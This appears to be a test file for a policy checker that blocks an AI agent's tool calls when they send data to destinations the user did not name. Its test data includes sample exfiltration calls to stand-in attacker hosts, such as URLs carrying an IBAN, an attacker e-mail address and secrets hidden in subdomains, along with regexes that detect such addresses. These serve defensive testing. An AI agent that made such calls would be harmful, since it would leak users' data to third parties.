/**
 * Destinations fail closed: an argument that looks like an address is a destination whether or not
 * the developer declared it, reversible tool or not; only an admin's confirmation removes one.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  addressKind,
  callDestinations,
  DESTINATION_FORMATS,
  DESTINATION_WORDS,
  inferredDestinations,
  isDestinationName,
  namedDestinations,
  schemaDestinations,
  type VisorTool,
  visorAudit,
} from "../../src/policy/index.ts";

const ON: Record<"S" | "T" | "I", boolean> = { S: true, T: true, I: true };

/** One call of `tool` under a request whose user-given words are `task`. */
function audit(tool: VisorTool, args: Record<string, unknown>, task: string, checks = ON) {
  return visorAudit({
    functionality: { name: "research", irreversible: false, destinations: [] },
    tools: [tool],
    allowed: [tool.name],
    request: { task },
    trusted: { task },
    call: { tool: tool.name, args },
    checks,
    irreversibleDone: false,
  });
}

const fetchPage: VisorTool = {
  name: "fetch_page",
  irreversible: false,
  parameters: { type: "object", properties: { url: { type: "string" } }, required: ["url"] },
};

describe("an honest reversible fetch_page(url) that declares nothing", () => {
  const task = "Summarise https://news.example.test/today for me";

  it("refuses a URL the user did not name (the exfiltration); the page the user named passes", () => {
    expect(audit(fetchPage, { url: "https://news.example.test/today" }, task)).toBeNull();
    expect(audit(fetchPage, { url: "https://attacker.test/?d=DE12500105170648489890" }, task)).toMatchObject({
      type: "T",
    });
  });

  it("control, T off: the exfiltrating call passes", () => {
    expect(
      audit(fetchPage, { url: "https://attacker.test/?d=DE12500105170648489890" }, task, { ...ON, T: false }),
    ).toBeNull();
  });

  it("control, the admin confirmed it sends nowhere: the same call passes", () => {
    const confirmed = { ...fetchPage, destinations: [], confirmed: true };
    expect(audit(confirmed, { url: "https://attacker.test/?d=x" }, task)).toBeNull();
  });

  it("a developer's empty declaration is not trusted: the URL is still a destination", () => {
    const declaredNone = { ...fetchPage, destinations: [] };
    expect(audit(declaredNone, { url: "https://attacker.test/?d=x" }, task)).toMatchObject({ type: "T" });
  });
});

describe("the three signs, each alone", () => {
  it("a destination format, whatever the name, also nested, in arrays and in anyOf branches", () => {
    const parameters = {
      type: "object",
      properties: {
        q: { type: "string", format: "uri" },
        meta: {
          type: "object",
          properties: {
            sinks: { type: "array", items: { type: "string", format: "idn-email" } },
            maybe: { anyOf: [{ type: "string", format: "hostname" }, { type: "null" }] },
          },
        },
      },
    };
    const args = { q: "x", meta: { sinks: ["a", "b"], maybe: "c" } };
    expect(inferredDestinations(parameters, args)).toEqual([
      { path: "q", value: "x" },
      { path: "meta.sinks[]", value: "a" },
      { path: "meta.sinks[]", value: "b" },
      { path: "meta.maybe", value: "c" },
    ]);
    expect(schemaDestinations(parameters)).toEqual(["q", "meta.sinks[]", "meta.maybe"]);
  });

  it("a name: words anywhere in it, everything under it; to/cc/bcc only as the whole name", () => {
    for (const name of [
      "url",
      "webhookURL",
      "callback_url",
      "recipientEmail",
      "e-mail",
      "phoneNumber",
      "iban",
      "payee",
      "accounts",
      "to",
      "cc",
      "bcc",
      "links",
      "hostName",
    ]) {
      expect(isDestinationName(name), name).toBe(true);
    }
    for (const name of ["query", "to_date", "total", "photo", "subject", "body", "id", "ghost", "task"]) {
      expect(isDestinationName(name), name).toBe(false);
    }
    expect(inferredDestinations(undefined, { payee: { name: "Dana", number: 7 }, memo: "rent" })).toEqual([
      { path: "payee.name", value: "Dana" },
      { path: "payee.number", value: 7 },
    ]);
  });

  it("a value: URLs, e-mail addresses, international phone numbers and IBANs; not plain words", () => {
    for (const [value, kind] of [
      ["https://attacker.test/?d=1", "url"],
      ["attacker.test/collect?d=1", "url"],
      ["attacker.test:8080", "url"],
      ["//attacker.test/x", "url"],
      ["mailto:x@evil.test", "url"],
      ["mallory@evil.test", "email"],
      ["+1 (555) 010-0100", "phone"],
      ["+4915550100", "phone"],
      ["DE12500105170648489890", "iban"],
      ["GB33 BUKB 2020 1555 5555 55", "iban"],
    ] as const) {
      expect(addressKind(value), value).toBe(kind);
    }
    for (const value of ["hello", "report.pdf", "v1.2", "2024-01-01", "84.20", "Q3 is on track.", ""]) {
      expect(addressKind(value), value).toBeNull();
    }
    // An address inside a longer string counts too (#43): "see mallory@evil.test" sends there as well.
    expect(
      inferredDestinations(undefined, { notes: ["see mallory@evil.test", "mallory@evil.test", "see you"] }),
    ).toEqual([
      { path: "notes[]", value: "see mallory@evil.test" },
      { path: "notes[]", value: "mallory@evil.test" },
    ]);
  });
});

/** The whole-string reading before #43, kept as the control: what it misses, the new one reads. */
const OLD_WHOLE = [
  /^(?:[a-z][a-z0-9+.-]*:\/\/|\/\/|(?:mailto|tel|sms|callto):)\S+$/i,
  /^(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z][a-z0-9-]*(?::\d+|(?::\d+)?[/?#]\S*)$/i,
  /^[^\s@]+@[^\s@]+\.[^\s@]+$/,
  /^\+[\s(]*\d(?:[\s().-]{0,2}\d){6,14}$/,
  /^[A-Z]{2}\d{2}(?:\s?[A-Z0-9]){11,30}$/i,
];
const oldKind = (v: string) => OLD_WHOLE.some((p) => p.test(v.trim()));

describe("destination shapes the whole-string reading missed (#43, M4)", () => {
  const lookup: VisorTool = {
    name: "lookup",
    irreversible: false,
    parameters: { type: "object", properties: { q: { type: "string" }, path: { type: "string" } } },
  };
  const task = "Look up the weather for Berlin";
  const shapes: Array<[string, Record<string, unknown>]> = [
    ["a secret as a subdomain", { q: "c2VjcmV0.evil.test" }],
    ["host and path split across two arguments", { q: "evil.test", path: "/c?d=DE89" }],
    ["a named address", { q: "Eve <eve@evil.test>" }],
    ["a national phone number", { q: "030 1234567" }],
    ["an IP without a scheme", { q: "203.0.113.9/collect" }],
    ["a bare IP", { q: "203.0.113.9" }],
    ["a wallet", { q: "0x52908400098527886E0F7030069857D2E4169EE7" }],
  ];
  for (const [name, args] of shapes) {
    it(`${name} is a destination: T refuses it; controls: the old reading missed it, confirmed it passes`, () => {
      expect(audit(lookup, args, task)).toMatchObject({ type: "T" });
      expect(Object.values(args).some((v) => oldKind(String(v)))).toBe(false);
      expect(audit({ ...lookup, destinations: [], confirmed: true }, args, task)).toBeNull();
    });
  }

  it("a string whose every reference the user wrote is named; another subdomain or path is not", () => {
    const t = "Mail eve@evil.test the notes from https://docs.test/a";
    expect(audit(lookup, { q: "Eve <eve@evil.test>" }, t)).toBeNull();
    expect(audit(lookup, { q: "https://docs.test/a#top" }, t)).toBeNull();
    expect(audit(lookup, { q: "Eve <eve@x.evil.test>" }, t)).toMatchObject({ type: "T" });
    expect(audit(lookup, { q: "https://docs.test/b" }, t)).toMatchObject({ type: "T" });
  });

  it("property: a reference anywhere in a free-text argument makes it a destination the old reading missed", () => {
    const name = fc.stringMatching(/^[a-z][a-z0-9_]{0,11}$/).filter((k) => !isDestinationName(k));
    const word = fc.stringMatching(/^[a-z]{3,8}$/);
    const place = fc.oneof(
      fc.tuple(word, word).map(([secret, host]) => `${secret}.${host}.test`),
      fc.tuple(word, word).map(([who, host]) => `${who} <${who}@${host}.test>`),
      fc.stringMatching(/^[0-9]{7}$/).map((n) => `030 ${n}`),
      fc.tuple(fc.integer({ min: 1, max: 223 }), fc.nat(255)).map(([a, b]) => `${a}.${b}.0.9/collect`),
    );
    fc.assert(
      fc.property(name, place, word, (key, p, lead) => {
        const value = `${lead} ${p}`;
        expect(oldKind(value)).toBe(false);
        expect(inferredDestinations(undefined, { [key]: value })).toEqual([{ path: key, value }]);
        expect(audit(lookup, { q: value }, task)).toMatchObject({ type: "T" });
      }),
    );
  });

  it("a $ref'd format is read; an external $ref cannot be, so it counts", () => {
    const withRef = (fmt: string | undefined) => ({
      type: "object",
      $defs: { u: fmt ? { type: "string", format: fmt } : { type: "string" } },
      properties: { q: { $ref: "#/$defs/u" }, list: { type: "array", items: { $ref: "#/$defs/u" } } },
    });
    const args = { q: "x", list: ["y"] };
    expect(inferredDestinations(withRef("uri"), args)).toEqual([
      { path: "q", value: "x" },
      { path: "list[]", value: "y" },
    ]);
    expect(schemaDestinations(withRef("uri"))).toEqual(["q", "list[]"]);
    // Control: the same schema without the format names no destination.
    expect(inferredDestinations(withRef(undefined), args)).toEqual([]);
    const external = { type: "object", properties: { q: { $ref: "https://schemas.test/url.json" } } };
    expect(inferredDestinations(external, { q: "x" })).toEqual([{ path: "q", value: "x" }]);
    const cycle = {
      type: "object",
      $defs: { a: { $ref: "#/$defs/a" } },
      properties: { q: { $ref: "#/$defs/a" } },
    };
    expect(inferredDestinations(cycle, { q: "x" })).toEqual([{ path: "q", value: "x" }]);
  });
});

describe("properties", () => {
  const key = fc.stringMatching(/^[a-z][a-z0-9_]{0,11}$/).filter((k) => !isDestinationName(k));
  const format = fc.constantFrom(...DESTINATION_FORMATS);
  /** A path of 1–3 property names, each possibly a list, and a schema with a format at its end. */
  const placed = fc
    .tuple(fc.array(fc.tuple(key, fc.boolean()), { minLength: 1, maxLength: 3 }), format, fc.string())
    .map(([parts, fmt, value]) => {
      let schema: Record<string, unknown> = { type: "string", format: fmt };
      let args: unknown = value;
      for (const [name, list] of [...parts].reverse()) {
        if (list) {
          schema = { type: "array", items: schema };
          args = [args];
        }
        schema = { type: "object", properties: { [name]: schema } };
        args = { [name]: args };
      }
      const path = parts.map(([name, list]) => (list ? `${name}[]` : name)).join(".");
      return { schema, args: args as Record<string, unknown>, path, value };
    });

  it("an undeclared argument of a destination format is always a destination, reversible or not", () => {
    fc.assert(
      fc.property(placed, fc.boolean(), ({ schema, args, path, value }, irreversible) => {
        const tool = { irreversible, destinations: [], parameters: schema };
        expect(callDestinations(tool, args)).toContainEqual({ path, value });
        expect(schemaDestinations(schema)).toEqual([path]);
      }),
    );
  });

  it("so the visor refuses it when the user's words do not name it (and passes it with T off)", () => {
    fc.assert(
      fc.property(placed, fc.string(), ({ schema, args, value }, task) => {
        fc.pre(!task.toLowerCase().includes(value.toLowerCase()));
        const tool = { name: "t", irreversible: false, parameters: schema };
        expect(audit(tool, args, task)).toMatchObject({ type: "T" });
        expect(audit(tool, args, task, { ...ON, T: false })).toBeNull();
      }),
    );
  });

  it("declaring only adds: every inferred destination stays, whatever is declared, unless an admin confirms", () => {
    const argsArb = fc.dictionary(
      fc.oneof(key, fc.constantFrom(...DESTINATION_WORDS), fc.constantFrom("to", "cc", "memo")),
      fc.oneof(
        fc.string(),
        fc.integer(),
        fc.constantFrom("https://evil.test/x", "a@evil.test", "+4915550100"),
        fc.array(fc.string(), { maxLength: 2 }),
      ),
      { maxKeys: 5 },
    );
    fc.assert(
      fc.property(argsArb, fc.array(key, { maxLength: 3 }), fc.boolean(), (args, declared, irreversible) => {
        const inferred = inferredDestinations(undefined, args);
        const tool = { irreversible, destinations: declared };
        const named = namedDestinations(tool, args);
        for (const d of inferred) expect(named).toContainEqual(d);
        for (const d of callDestinations(tool, args)) expect(named).toContainEqual(d);
        // Only the admin's confirmation removes them: then the list is exactly the confirmed one.
        const confirmed = namedDestinations({ ...tool, confirmed: true }, args);
        for (const d of confirmed) expect(declared.some((p) => d.path === p)).toBe(true);
      }),
    );
  });
});
